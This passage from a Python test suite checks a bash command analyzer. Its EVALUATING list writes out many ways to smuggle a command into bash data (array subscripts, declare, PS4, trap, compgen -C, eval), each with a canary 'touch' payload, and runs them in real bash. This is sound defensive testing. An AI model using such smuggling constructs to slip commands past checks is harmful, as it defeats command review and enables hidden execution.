    # A literal backslash-newline inside quotes asks by design (`joined_in_word`:
    # kfd does not tell quoting apart there); any other risk is a wrong reading.
    unexpected = [
        risk
        for risk in analysis.risks
        if risk.kind is not RiskKind.LOOKALIKE
        and not (risk.kind is RiskKind.UNPARSED and risk.message.startswith("a backslash-newline"))
    ]
    assert not unexpected, (line.text, unexpected)
    assert all(command.static for command in analysis.commands)


TOKENS = st.sampled_from(
    [
        *"ab -;&|()<>{}$`'\"\\\n*?[]~=#!0,.",
        "$(",
        "<<E\n",
        "E\n",
        "bash -c ",
        "sudo ",
        "env ",
        "xargs ",
        "find -exec ",
        "git -C ",
        "eval ",
        "${",
        "$((",
        "[[ ",
        " ]]",
        "if ",
        "then ",
        "fi",
        "for x in ",
        "do ",
        "done",
        "case ",
        " in ",
        "esac",
        ";;",
        "\uff1b",
        "\u200b",
        "x=",
        "PATH=",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(TOKENS, max_size=30).map("".join))
def test_no_risk_means_every_command_is_static(line: str) -> None:
    analysis: ShellAnalysis = analyze(line)
    if not analysis.risks:
        assert all(command.static for command in analysis.commands)


# Bash evaluates code hidden in data: checked against the real bash.

PAYLOAD = "a[$(touch {canary})]"
"""An array subscript whose evaluation runs a command: inert only where bash never
evaluates it."""

EVALUATING = [
    "declare 'P'=1",
    "typeset 'P'=1",
    "f(){ local 'P'=1; }; f",
    "a=(1 2); unset 'P'",
    "a=(1 2); unset -v 'P'",
    "read 'P' <<< x",
    "a=(1 2); read -r 'P' <<< x",
    "printf -v 'P' x",
    "test -v 'P'",
    "[ -v 'P' ]",
    "[[ -v 'P' ]]",
    "[[ 'P' -eq 1 ]]",
    "[[ 1 -lt 'P' ]]",
    "let 'P'",
    "declare -i x; x='P'",
    "declare -i x='P'",
    "x='P'; echo $((x))",
    "x='P'; : $(( x ))",
    "x='P'; echo $[x]",
    "y=abc; x='P'; echo ${y:x}",
    "y=abc; x='P'; echo ${y:1:x}",
    "y=(a b); x='P'; echo ${y[@]:x}",
    "x='P'; echo ${!x}",
    "x='P'; [[ $x -eq 1 ]]",
    "x='P'; a[x]=1",
    "x='P'; y=(1 2 3); echo ${y[x]}",
    "declare -n r='P'; r=1",
    "x=1; declare -n r=x; r='P'; echo $((x))",
    "a=(['P']=1)",
    "declare -a a=(['P']=1)",
    "a['P']=1",
    "declare -g 'P'=1",
    "declare -x 'P'=1",
    "mapfile -C 'touch {canary}' -c 1 a <<< x",
    "compgen -W '$(touch {canary})' x",
    "complete -C 'touch {canary}' x; compgen -C 'touch {canary}' x",
    "f(){ touch {canary}; }; compgen -F f x",
    "PS4='$(touch {canary})'; set -x; true",
    "trap 'touch {canary}' EXIT",
    "eval 'touch {canary}'",
]


@pytest.mark.parametrize("template", EVALUATING)
def test_what_bash_evaluates_from_data_never_passes_as_inert(
    template: str, tmp_path: pytest.TempPathFactory
) -> None:
    """Run each line in a real bash: when it ran the hidden command, the analyzer must
    have seen it (as a risk, or as the command itself)."""
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("bash is not installed")
    canary = Path(str(tmp_path)) / "canary"
    payload = PAYLOAD.format(canary=canary)
    line = template.replace("P", payload, 1).replace("{canary}", str(canary))
    subprocess.run(
        [bash, "-c", line], cwd=str(tmp_path), capture_output=True, timeout=10,
        env={"PATH": os.environ.get("PATH", ""), "HOME": str(tmp_path)},
    )  # fmt: skip
    analysis = analyze(line)
    seen = analysis.risks or any(c.argv[:1] == ["touch"] for c in analysis.commands)
    if canary.exists():
        assert seen, f"bash ran the hidden command of {line!r}, the analyzer saw nothing"
    assert seen, f"the analyzer calls {line!r} inert"


INERT = [
    "x=1",
    "a[0]=1; echo ${a[0]}",
    "echo $((2 * (3 + 4)))",
    "echo ${#}",
    "set -euo pipefail; ls",
    "read -r line < README.md",
    "printf -v out '%s' x",
    "declare x=1 y=2",
    "[[ -n x ]] && echo ok",
]


@pytest.mark.parametrize("line", INERT)
def test_plain_names_and_literal_arithmetic_are_inert(line: str) -> None:
    kinds = analyze(line).risk_kinds
    assert RiskKind.ARITHMETIC not in kinds and RiskKind.EVAL not in kinds, kinds


def test_a_long_loop_over_plain_words_still_sees_what_hides_among_them() -> None:
    words = " ".join(f"w{i}" for i in range(40))
    assert not analyze(f"for x in {words}; do echo x; done").risks
    assert not analyze(f"for x in {words}; do echo x; done").expansions
    hidden = analyze(f"for x in {words} $(touch y) {words}; do echo x; done")
    assert ["touch", "y"] in [c.argv for c in hidden.commands]
    assert analyze(f"for x in {words} *.py; do echo x; done").expansions
    assert analyze(f"for x in {words} a{{b,c}}; do echo x; done").expansions


def test_a_long_command_of_plain_words_reads_as_word_by_word() -> None:
    words = [f"src/m{i}.py" for i in range(40)]
    plain = analyze("git add " + " ".join(words))
    assert [c.argv for c in plain.commands] == [["git", "add", *words]]
    assert not plain.risks and all(c.static for c in plain.commands)
    hidden = analyze("git add " + " ".join(words) + " $(touch y) " + " ".join(words))
    assert ["touch", "y"] in [c.argv for c in hidden.commands]
    globbed = analyze("git add " + " ".join(words) + " *.py")
    assert not all(c.static for c in globbed.commands)
    redirected = analyze("git add " + " ".join(words) + " > out")
    assert [r.target for r in redirected.redirects] == ["out"]
